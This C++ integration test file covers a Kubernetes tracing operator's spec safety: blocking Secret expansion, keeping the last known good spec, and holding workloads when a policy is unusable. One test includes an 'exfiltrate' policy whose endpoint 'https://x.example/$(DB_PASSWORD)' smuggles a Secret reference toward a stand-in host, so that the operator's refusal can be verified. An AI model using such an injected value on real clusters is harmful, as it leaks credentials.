// What a policy author can and cannot do to workloads through the operator (issue 9, SPEC §4),
// against the real API server with the operator as its own process:
// - no $( expansion: a value the kubelet would expand into a Secret is refused at `kubectl
//   apply` time, and every value the operator writes reaches the container as the policy wrote
//   it (an independent kubelet oracle, tests/integration/kubelet_env.h, shows what it expands);
// - last known good: an edit the operator cannot use keeps the previous spec in force, and
//   reverts nothing — also across an operator restart — and a fresh invalid policy configures
//   nothing;
// - remote sampling without a sampling endpoint, and resource attributes merged beyond what the
//   operator writes, keep the workload as it is and say so in status.
#include <sys/stat.h>

#include <set>

#include "controllers/naming.h"
#include "plugin/yaml_json.h"
#include "tests/integration/kubelet_env.h"
#include "tests/integration/operator_fixture.h"

namespace tracing::testing {
namespace {

using kube::resources::custom_resource_definitions;
using kube::resources::deployments;
using kube::resources::namespaces;

const kube::Resource kSecrets{"", "v1", "secrets", true, "Secret"};
const std::string kCrdFile =
    std::string(TRACING_SOURCE_DIR) + "/crds/tracing.rollout.dev_tracingpolicies.yaml";
const std::string kCrdName = "tracingpolicies.tracing.rollout.dev";

json entry(const std::string& name, const std::string& value) {
  return {{"name", name}, {"value", value}};
}

json secret_entry(const std::string& name, const std::string& secret, const std::string& key) {
  return {{"name", name}, {"valueFrom", {{"secretKeyRef", {{"name", secret}, {"key", key}}}}}};
}

class SpecSafety : public OperatorTest {
 protected:
  void SetUp() override {
    OperatorTest::SetUp();
    if (HasFatalFailure()) return;
    // Policies earlier tests left in namespaces still being deleted would be this operator's
    // work too (finalizers, debug bumps waiting for their expiry): wait until they are gone.
    if (!eventually(
            [&] {
              auto all = client_->list(kPolicies, "");
              return all && all->items.empty();
            },
            120s)) {
      ADD_FAILURE() << "policies of earlier tests are still there";
    }
  }

  void TearDown() override {
    if (op_) op_->stop();
    if (stale_crd_) install_schema(yaml::load_yaml_file(kCrdFile), /*stale=*/false);
    OperatorTest::TearDown();
  }

  // The CRD of an earlier release, as Helm leaves it in place on an upgrade (Helm never upgrades
  // CRDs): the API server then accepts what this operator's parser refuses. Here: resource
  // attribute keys with '/' (the rule on spec.resourceAttributes is missing).
  void install_stale_crd() {
    json crd = yaml::load_yaml_file(kCrdFile);
    crd["spec"]["versions"][0]["schema"]["openAPIV3Schema"]["properties"]["spec"]["properties"]
       ["resourceAttributes"]
           .erase("x-kubernetes-validations");
    stale_crd_ = true;
    install_schema(crd, /*stale=*/true);
  }

  // Replaces the installed CRD and waits until the API server validates with it: a probe policy
  // with a '/' in a resource attribute key is accepted exactly by the stale schema.
  void install_schema(json crd, bool stale) {
    for (int attempt = 0; attempt < 10; ++attempt) {
      auto current = client_->get(custom_resource_definitions(), "", kCrdName);
      ASSERT_TRUE(current) << current.error().to_string();
      crd["metadata"]["resourceVersion"] = (*current)["metadata"]["resourceVersion"];
      auto r = client_->replace(custom_resource_definitions(), "", kCrdName, crd);
      if (r) break;
      ASSERT_TRUE(r.error().is_conflict()) << r.error().to_string();
    }
    const std::string probe_ns = ns_;
    json probe = {{"apiVersion", naming::kApiVersion},
                  {"kind", naming::kKind},
                  {"metadata", {{"name", "schema-probe"}}},
                  {"spec", {{"resourceAttributes", {{"team/name", "x"}}}}}};
    EXPECT_TRUE(eventually(
        [&] {
          auto r = client_->create(kPolicies, probe_ns, probe);
          if (r) {
            (void)client_->patch(kPolicies, probe_ns, "schema-probe",
                                 {{"metadata", {{"finalizers", nullptr}}}},
                                 kube::PatchType::kMerge);
            (void)client_->remove(kPolicies, probe_ns, "schema-probe");
            eventually([&] { return !client_->get(kPolicies, probe_ns, "schema-probe").ok(); });
          }
          return r.ok() == stale;
        },
        30s))
        << "the API server did not switch to the " << (stale ? "stale" : "current") << " schema";
  }

  // `kubectl apply --server-side` of a policy; the API server's answer.
  kube::Result<json> apply_policy(const std::string& ns, const std::string& name,
                                  const json& spec) {
    json p = {{"apiVersion", naming::kApiVersion},
              {"kind", naming::kKind},
              {"metadata", {{"name", name}, {"namespace", ns}}},
              {"spec", spec}};
    return client_->apply(kPolicies, ns, name, p, {"kubectl", true, ""});
  }

  json status_of(const std::string& ns, const std::string& name) {
    auto r = client_->get(kPolicies, ns, name);
    return r ? r->value("status", json::object()) : json::object();
  }

  json condition(const std::string& ns, const std::string& name, const std::string& type) {
    for (const auto& c : status_of(ns, name).value("conditions", json::array())) {
      if (c.value("type", "") == type) return c;
    }
    return json::object();
  }

  // Waits until condition `type` of the policy has `reason` and a message containing `text`.
  bool wait_condition(const std::string& ns, const std::string& name, const std::string& type,
                      const std::string& reason, const std::string& text) {
    bool ok = eventually([&] {
      json c = condition(ns, name, type);
      return c.value("reason", "") == reason &&
             c.value("message", "").find(text) != std::string::npos;
    });
    if (!ok) {
      ADD_FAILURE() << name << " " << type << ": " << condition(ns, name, type).dump()
                    << "\nexpected reason " << reason << " and a message containing: " << text
                    << "\noperator log " << op_->log_path();
    }
    return ok;
  }

  json deployment(const std::string& ns, const std::string& name) {
    auto d = client_->get(deployments(), ns, name);
    return d ? *d : json();
  }

  json env(const std::string& ns, const std::string& name) {
    json d = deployment(ns, name);
    if (!d.is_object()) return json();
    return d["spec"]["template"]["spec"]["containers"][0].value("env", json::array());
  }

  std::string var(const std::string& ns, const std::string& name, const std::string& variable) {
    for (const auto& e : env(ns, name)) {
      if (e["name"] == variable) return e.value("value", "");
    }
    return "<unset>";
  }

  bool wait_var(const std::string& ns, const std::string& name, const std::string& variable,
                const std::string& value) {
    bool ok = eventually([&] { return var(ns, name, variable) == value; });
    if (!ok) {
      ADD_FAILURE() << ns << "/" << name << " " << variable << " = " << var(ns, name, variable)
                    << ", expected " << value << "; env " << env(ns, name).dump()
                    << "; operator log " << op_->log_path();
    }
    return ok;
  }

  bool stale_crd_ = false;
};

// ---- No $( expansion through the operator --------------------------------------------------

TEST_F(SpecSafety, AValueThatWouldExpandASecretIsRefusedAndADollarReachesTheSdkAsWritten) {
  const std::string kPassword = "hunter2-s3cr3t";
  auto s = client_->create(kSecrets, ns_,
                           {{"apiVersion", "v1"},
                            {"kind", "Secret"},
                            {"metadata", {{"name", "db"}}},
                            {"stringData", {{"password", kPassword}}}});
  ASSERT_TRUE(s) << s.error().to_string();
  const json original =
      json::array({secret_entry("DB_PASSWORD", "db", "password"), entry("LOG_LEVEL", "info")});
  workload(ns_, "web", {{"app", "web"}}, original);
  op_->start();

  // A hostile (or mistaken) policy author: refused at apply time, naming the field.
  auto refused = apply_policy(ns_, "exfiltrate",
                              {{"exporter", {{"endpoint", "https://x.example/$(DB_PASSWORD)"}}}});
  ASSERT_FALSE(refused) << "accepted: " << refused->dump();
  EXPECT_EQ(refused.error().code, 422);
  EXPECT_NE(refused.error().message.find("spec.exporter.endpoint: must not contain \"$(\""),
            std::string::npos)
      << refused.error().message;
  refused = apply_policy(
      ns_, "exfiltrate",
      {{"sampling", {{"mode", "remote"}}},
       {"jaeger",
        {{"mode", "external"}, {"samplingEndpoint", "https://x.example/$(DB_PASSWORD)"}}}});
  ASSERT_FALSE(refused) << "accepted: " << refused->dump();
  EXPECT_NE(refused.error().message.find("spec.jaeger.samplingEndpoint: must not contain \"$(\""),
            std::string::npos)
      << refused.error().message;

  // A '$' that opens no reference is a URL character: accepted, and written escaped.
  auto accepted =
      apply_policy(ns_, "dollars",
                   {{"exporter", {{"endpoint", "https://otel.example.com:4318/$DB_PASSWORD/$$x"}}},
                    {"sampling", {{"mode", "remote"}}},
                    {"jaeger",
                     {{"mode", "external"},
                      {"samplingEndpoint", "https://jaeger.example.com:5779/$DB_PASSWORD"}}}});
  ASSERT_TRUE(accepted) << accepted.error().to_string();
  ASSERT_TRUE(wait_var(ns_, "web", naming::kOtelEndpoint,
                       "https://otel.example.com:4318/$$DB_PASSWORD/$$$$x"));
  EXPECT_EQ(var(ns_, "web", naming::kOtelSamplerArg),
            "endpoint=https://jaeger.example.com:5779/$$DB_PASSWORD,pollingIntervalMs=10000,"
            "initialSamplingRate=0.01");

  // What a kubelet makes of the env the API server holds.
  const json live = env(ns_, "web");
  Vars seen = kubelet_env(live, {{"db", {{"password", kPassword}}}});
  EXPECT_EQ(seen[naming::kOtelEndpoint], "https://otel.example.com:4318/$DB_PASSWORD/$$x");
  EXPECT_EQ(seen[naming::kOtelSamplerArg],
            "endpoint=https://jaeger.example.com:5779/$DB_PASSWORD,pollingIntervalMs=10000,"
            "initialSamplingRate=0.01");
  EXPECT_EQ(seen["DB_PASSWORD"], kPassword) << "the oracle resolves the Secret";
  for (const auto& [name, value] : seen) {
    if (name == "DB_PASSWORD") continue;
    EXPECT_EQ(value.find(kPassword), std::string::npos) << name;
  }

  // The escaped value is what the operator compares with: a restart writes nothing.
  ASSERT_TRUE(wait_condition(ns_, "dollars", "Ready", "Configured", "1/1 workloads configured"));
  ASSERT_TRUE(op_->wait_idle(1));
  EXPECT_EQ(op_->stop(), 0);
  size_t offset = audit_log_size();
  op_->start();
  ASSERT_TRUE(op_->wait_idle(1));
  EXPECT_EQ(op_->stop(), 0);
  EXPECT_EQ(audit_writes_since(offset), 0) << "writes by the operator in the audit log";
}

// ---- Last known good ------------------------------------------------------------------------

TEST_F(SpecSafety, AnEditTheOperatorCannotUseKeepsTheLastValidSpecAndRevertsNothing) {
  install_stale_crd();
  if (HasFatalFailure()) return;
  const json original = json::array({entry("LOG_LEVEL", "info")});
  workload(ns_, "web", {{"app", "web"}}, original);
  const size_t start = audit_log_size();
  op_->start();
  ASSERT_TRUE(apply_policy(ns_, "p",
                           {{"sampling", {{"ratio", "0.25"}}},
                            {"resourceAttributes", {{"team", "payments"}}},
                            {"jaeger", {{"mode", "managed"}, {"name", "traces"}}}}));
  ASSERT_TRUE(wait_var(ns_, "web", naming::kOtelSamplerArg, "0.25"));
  // No exporter endpoint: the policy's managed Jaeger "traces", in its namespace.
  ASSERT_TRUE(eventually([&] { return deployment(ns_, "traces").is_object(); }))
      << "operator log " << op_->log_path();
  const json jaeger_uid = deployment(ns_, "traces")["metadata"]["uid"];
  ASSERT_TRUE(op_->wait_idle(1));
  const json configured = env(ns_, "web");
  // "No write" is read in the audit log, by user: the Deployment controller of the control plane
  // may still write web's status (its resourceVersion) after the operator has gone idle.
  const std::string web_uri = "/apis/apps/v1/namespaces/" + ns_ + "/deployments/web";
  ASSERT_GT(audit_writes_since(start, "tracing-operator", web_uri), 0)
      << "the audit log shows the operator's write that configured web";
  const size_t offset = audit_log_size();

  // An edit the API server (with the old CRD) accepts and the operator cannot use.
  ASSERT_TRUE(apply_policy(ns_, "p",
                           {{"sampling", {{"ratio", "0.5"}}},
                            {"resourceAttributes", {{"team/name", "payments"}}},
                            {"jaeger", {{"mode", "managed"}, {"name", "traces"}}}}));
  ASSERT_TRUE(wait_condition(ns_, "p", "Degraded", "InvalidSpec",
                             "spec.resourceAttributes: key \"team/name\""));
  json ready = condition(ns_, "p", "Ready");
  EXPECT_EQ(ready["status"], "False");
  EXPECT_EQ(ready["reason"], "InvalidSpec");
  EXPECT_NE(ready["message"].get<std::string>().find(
                "generation 2 is not in force: the operator keeps applying generation 1, the last "
                "valid spec, and reverts nothing"),
            std::string::npos)
      << ready.dump();
  EXPECT_EQ(status_of(ns_, "p")["observedGeneration"], 2);
  EXPECT_EQ(status_of(ns_, "p")["effective"]["ratio"], "0.25") << "generation 1's ratio";
  ASSERT_TRUE(op_->wait_idle(1));
  EXPECT_EQ(env(ns_, "web"), configured) << "nothing reverted, nothing changed";
  EXPECT_EQ(audit_writes_since(offset, "tracing-operator", web_uri), 0) << "no write";
  EXPECT_EQ(deployment(ns_, "traces")["metadata"]["uid"], jaeger_uid) << "its Jaeger stays";

  // The operator restarts while the spec is invalid: it never saw a valid one. It configures
  // nothing new and reverts nothing.
  EXPECT_EQ(op_->stop(), 0);
  workload(ns_, "new", {{"app", "web"}}, original);
  op_->start();
  ASSERT_TRUE(wait_condition(ns_, "p", "Ready", "InvalidSpec",
                             "no earlier valid spec of this policy is known to the operator (it "
                             "started with this one): it configures nothing new, and the 1 "
                             "workloads it configured are kept as they are"));
  ASSERT_TRUE(op_->wait_idle(2));
  EXPECT_EQ(env(ns_, "web"), configured);
  EXPECT_EQ(audit_writes_since(offset, "tracing-operator", web_uri), 0) << "no write";
  EXPECT_EQ(env(ns_, "new"), original) << "configures nothing new";
  // Its Jaeger, which only the unreadable spec names, is neither removed nor replaced by a
  // default one: nothing is removed while a policy's spec is unknown.
  EXPECT_EQ(deployment(ns_, "traces")["metadata"]["uid"], jaeger_uid) << "its Jaeger stays";
  EXPECT_FALSE(deployment(ns_, "jaeger").is_object()) << "no default Jaeger in its place";

  // Fixed: the new spec applies to both.
  ASSERT_TRUE(apply_policy(ns_, "p",
                           {{"sampling", {{"ratio", "0.5"}}},
                            {"resourceAttributes", {{"team.name", "payments"}}},
                            {"jaeger", {{"mode", "managed"}, {"name", "traces"}}}}));
  ASSERT_TRUE(wait_var(ns_, "web", naming::kOtelSamplerArg, "0.5"));
  ASSERT_TRUE(wait_var(ns_, "new", naming::kOtelSamplerArg, "0.5"));
  ASSERT_TRUE(wait_condition(ns_, "p", "Degraded", "AsExpected", ""));

  // Deleted: both get their env back.
  ASSERT_TRUE(client_->remove(kPolicies, ns_, "p"));
  EXPECT_TRUE(eventually([&] {
    return env(ns_, "web") == original && env(ns_, "new") == original;
  })) << env(ns_, "web").dump()
      << " " << env(ns_, "new").dump();
  EXPECT_TRUE(eventually([&] { return !client_->get(kPolicies, ns_, "p").ok(); }));
}

TEST_F(SpecSafety, APolicyFirstSeenInvalidIsReportedAndConfiguresNothing) {
  install_stale_crd();
  if (HasFatalFailure()) return;
  const json original = json::array({entry("PORT", "8080")});
  workload(ns_, "web", {{"app", "web"}}, original);
  op_->start();
  ASSERT_TRUE(apply_policy(
      ns_, "p",
      {{"sampling", {{"ratio", "0.5"}}}, {"resourceAttributes", {{"team/name", "payments"}}}}));
  ASSERT_TRUE(wait_condition(ns_, "p", "Ready", "InvalidSpec", "spec.resourceAttributes"));
  EXPECT_EQ(condition(ns_, "p", "Ready")["status"], "False");
  ASSERT_TRUE(op_->wait_idle(1));
  EXPECT_EQ(env(ns_, "web"), original) << "an invalid policy configures nothing";
  // kstatus itself (sigs.k8s.io/cli-utils, as Flux and kpt compute it) on the live policy: a
  // spec nobody but its author can fix is Failed, with the reason in its message.
  json policy = *client_->get(kPolicies, ns_, "p");
  json kstatus = kstatus_of(policy);
  if (kstatus.is_null()) GTEST_SKIP() << kNoKstatus;
  EXPECT_EQ(kstatus.value("status", ""), "Failed") << kstatus.dump() << policy["status"].dump();
  EXPECT_NE(kstatus.value("message", "").find("spec.resourceAttributes"), std::string::npos)
      << kstatus.dump();
}

// ---- Remote mode without a sampling endpoint; attributes beyond the limit ------------------

TEST_F(SpecSafety, RemoteModeWithoutASamplingEndpointKeepsTheWorkloadAsItIs) {
  const json original = json::array({entry("LOG_LEVEL", "info")});
  workload(ns_, "web", {{"app", "web"}}, original);
  op_->start();
  // The cluster exports to a collector of its own: no managed Jaeger.
  ASSERT_TRUE(apply_policy(root_, "cluster",
                           {{"exporter", {{"endpoint", "http://collector.obs.svc:4317"}}}}));
  ASSERT_TRUE(apply_policy(ns_, "team", {{"sampling", {{"ratio", "0.25"}}}}));
  ASSERT_TRUE(wait_var(ns_, "web", naming::kOtelSamplerArg, "0.25"));
  ASSERT_TRUE(op_->wait_idle(1));
  const json configured = env(ns_, "web");

  // The team switches to remote sampling; nothing serves it.
  ASSERT_TRUE(apply_policy(ns_, "team", {{"sampling", {{"ratio", "0.25"}, {"mode", "remote"}}}}));
  ASSERT_TRUE(wait_condition(
      ns_, "team", "Degraded", "InvalidSpec",
      "1 workloads kept as they are, neither configured nor reverted: spec.sampling.mode: remote "
      "(from " +
          ns_ + "/team) needs a Jaeger sampling endpoint, but no policy sets spec.jaeger and " +
          root_ + "/cluster sets spec.exporter.endpoint, so no Jaeger is managed"));
  EXPECT_EQ(status_of(ns_, "team")["counts"]["held"], 1);
  EXPECT_EQ(condition(ns_, "team", "Ready")["status"], "False");
  ASSERT_TRUE(op_->wait_idle(1));
  EXPECT_EQ(env(ns_, "web"), configured) << "never endpoint=,...: kept as it was";

  // The cluster names an external Jaeger's sampling endpoint: remote mode now works.
  ASSERT_TRUE(apply_policy(
      root_, "cluster",
      {{"exporter", {{"endpoint", "http://collector.obs.svc:4317"}}},
       {"jaeger",
        {{"mode", "external"}, {"samplingEndpoint", "http://jaeger-sampling.obs.svc:5779"}}}}));
  ASSERT_TRUE(wait_var(ns_, "web", naming::kOtelSamplerArg,
                       "endpoint=http://jaeger-sampling.obs.svc:5779,pollingIntervalMs=10000,"
                       "initialSamplingRate=0.01"));
  ASSERT_TRUE(wait_condition(ns_, "team", "Degraded", "AsExpected", ""));
  EXPECT_EQ(status_of(ns_, "team")["counts"]["held"], 0);
}

TEST_F(SpecSafety, ResourceAttributesMergedBeyondWhatTheOperatorWritesKeepTheWorkloadAsItIs) {
  const json original = json::array({entry("LOG_LEVEL", "info")});
  workload(ns_, "web", {{"app", "web"}}, original);
  // The most one policy may hold: 32 keys of 128 characters, values of 128 four-byte characters.
  auto largest = [](char prefix) {
    json attrs = json::object();
    std::string value;
    for (int i = 0; i < 128; ++i) value += "\xF0\x9F\x98\x80";
    for (int i = 0; i < 32; ++i) {
      std::string n = std::to_string(i);
      attrs[std::string(1, prefix) + std::string(127 - n.size(), 'k') + n] = value;
    }
    return attrs;
  };
  op_->start();
  ASSERT_TRUE(apply_policy(ns_, "team", {{"resourceAttributes", largest('b')}}));
  ASSERT_TRUE(eventually([&] {
    return var(ns_, "web", naming::kOtelResourceAttributes).size() > 53000;
  })) << "one policy's largest attributes are written";
  ASSERT_TRUE(op_->wait_idle(1));
  const json configured = env(ns_, "web");

  ASSERT_TRUE(apply_policy(root_, "cluster", {{"resourceAttributes", largest('a')}}));
  ASSERT_TRUE(wait_condition(ns_, "team", "Degraded", "InvalidSpec",
                             "spec.resourceAttributes: the attributes of " + ns_ + "/team, " +
                                 root_ + "/cluster add up to 106624 bytes"));
  ASSERT_TRUE(op_->wait_idle(1));
  EXPECT_EQ(env(ns_, "web"), configured) << "kept as it was";
}

}  // namespace
}  // namespace tracing::testing
